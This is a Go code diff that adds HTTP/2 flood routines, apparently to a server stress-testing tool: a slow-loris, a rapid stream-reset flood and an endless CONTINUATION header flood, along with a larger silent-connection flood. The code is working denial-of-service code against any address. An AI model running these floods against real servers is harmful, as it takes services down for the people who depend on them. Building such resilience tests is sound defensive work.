@@ -5,6 +5,7 @@ import (
 	"encoding/binary"
 	"fmt"
 	"net"
+	"strings"
 	"sync/atomic"
 	"time"
 
@@ -151,9 +152,9 @@ func floodUnread(address, _ string) (func() string, error) {
 	}, nil
 }
 
-// floodSilent opens 5,000 connections that send nothing.
+// floodSilent opens 10,000 connections that send nothing.
 func floodSilent(address, _ string) (func() string, error) {
-	const connections = 5000
+	const connections = 10_000
 	var open, lately atomic.Int64
 	go func() {
 		for ; ; time.Sleep(time.Second) {
@@ -178,4 +179,104 @@ func floodSilent(address, _ string) (func() string, error) {
 		}()
 	}
 	return func() string { return fmt.Sprintf("the server kept %d of %d connections", lately.Load(), connections) }, nil
+}
+
+// floodSlow keeps 1,000 connections that send a byte of a call every second: slow-loris.
+func floodSlow(address, _ string) (func() string, error) {
+	const connections = 1000
+	var sent, closed atomic.Int64
+	for range connections {
+		go func() {
+			for {
+				r, err := connect(address, 1<<16)
+				if err != nil {
+					time.Sleep(100 * time.Millisecond)
+					continue
+				}
+				var call bytes.Buffer
+				slowly := &raw{r.Conn, http2.NewFramer(&call, r.Conn)}
+				if slowly.call(1) != nil {
+					return
+				}
+				for _, one := range call.Bytes() {
+					if _, err := r.Write([]byte{one}); err != nil {
+						break
+					}
+					sent.Add(1)
+					time.Sleep(time.Second)
+				}
+				closed.Add(1)
+				_ = r.Close()
+			}
+		}()
+	}
+	return func() string {
+		return fmt.Sprintf("%d connections sent %d bytes, one a second; %d were closed", connections, sent.Load(), closed.Load())
+	}, nil
+}
+
+// floodResets begins calls over five connections and cancels each at once, 2,000 times a second.
+func floodResets(address, _ string) (func() string, error) {
+	const connections, pause = 5, 10 * time.Millisecond
+	var begun atomic.Int64
+	for range connections {
+		go func() {
+			for {
+				r, err := connect(address, 1<<16)
+				if err != nil {
+					return
+				}
+				go r.drain()
+				for stream := uint32(1); err == nil && stream < 1<<20; stream += 2 {
+					if err = r.call(stream); err == nil {
+						err = r.WriteRSTStream(stream, http2.ErrCodeCancel)
+						begun.Add(1)
+					}
+					if stream%40 == 1 {
+						time.Sleep(pause)
+					}
+				}
+				_ = r.Close()
+			}
+		}()
+	}
+	return func() string { return fmt.Sprintf("%d calls were begun and cancelled", begun.Load()) }, nil
+}
+
+// floodHeaders sends headers without end over five connections, up to 7 megabytes a second on each, and replaces those that the server closes. More
+// would measure what the machine can copy.
+func floodHeaders(address, _ string) (func() string, error) {
+	const connections, pause = 5, 2 * time.Millisecond
+	var sent, closed atomic.Int64
+	var block headers
+	block.add("x", strings.Repeat("x", 15<<10))
+	for range connections {
+		go func() {
+			for {
+				r, err := connect(address, 1<<16)
+				if err != nil {
+					return
+				}
+				go r.drain()
+				for err = r.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block.bytes}); err == nil; sent.Add(int64(len(block.bytes))) {
+					time.Sleep(pause)
+					err = r.WriteContinuation(1, false, block.bytes)
+				}
+				closed.Add(1)
+				_ = r.Close()
+			}
+		}()
+	}
+	return func() string {
+		return fmt.Sprintf("%d MiB of headers without end; the server closed %d connections", sent.Load()>>20, closed.Load())
+	}, nil
+}
+
+// drain reads what the server says, which would wait otherwise.
+func (r *raw) drain() {
+	for {
+		if _, err := r.ReadFrame(); err != nil {
+			return
+		}
+	}
 }
